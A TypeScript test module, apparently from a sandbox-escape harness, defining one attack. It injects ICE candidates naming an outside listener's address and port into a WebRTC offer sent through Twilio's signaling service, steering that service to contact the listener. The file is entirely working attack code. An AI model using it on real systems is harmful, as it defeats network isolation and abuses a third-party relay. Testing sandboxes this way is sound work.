import type { Attack } from './attack';

/**
 * Through the sandbox's own router, which only the sandbox has.
 * @param lines of a description, where `ADDRESS` and `PORT` stand for the listener.
 */
export const routerAttacks = (lines: readonly string[]): readonly Attack[] => [
  {
    name: 'the router, by candidates named to Twilio’s service',
    given: lines,
    run: async ({ address, udpPort }, lines) => {
      const access = (await (await fetch('/access', { method: 'POST' })).json()) as {
        token: string;
        room: string;
      };
      const written = (lines as string[]).map((line) =>
        line.replaceAll('ADDRESS', address).replaceAll('PORT', String(udpPort)),
      );
      const connection = new RTCPeerConnection();
      connection.addTransceiver('audio');
      await connection.setLocalDescription();
      const sdp = `${connection.localDescription?.sdp}${written.join('\r\n')}\r\n`;
      const ufrag = /a=ice-ufrag:(\S+)/.exec(sdp)?.[1];
      const participant = { revision: 1, tracks: [] };
      const description = { type: 'offer', revision: 1, sdp };
      const named = written.map((line) => ({ candidate: line.slice(2), sdpMid: '0', sdpMLineIndex: 0 }));
      const ice = { candidates: named, ufrag, revision: 1 };
      const socket = new WebSocket('wss://global.vss.twilio.com/signaling');
      const send = (message: object): void => socket.send(JSON.stringify(message));
      socket.onopen = () => {
        const join = { token: access.token, name: access.room, participant };
        const body = { type: 'connect', ...join, peer_connections: [{ id: 'p', description }] };
        send({ type: 'hello', timeout: 5000, body });
      };
      return new Promise((resolve) => {
        socket.onmessage = ({ data }) => {
          const { body } = JSON.parse(String(data)) as { body?: { type: string; code?: number } };
          if (body?.type === 'error') resolve(`error ${body.code}`);
          if (body?.type !== 'connected') return;
          send({ type: 'msg', body: { type: 'update', peer_connections: [{ id: 'p', ice }] } });
          setTimeout(resolve, 1500, 'named');
        };
      });
    },
    outcome: 'named',
  },
];
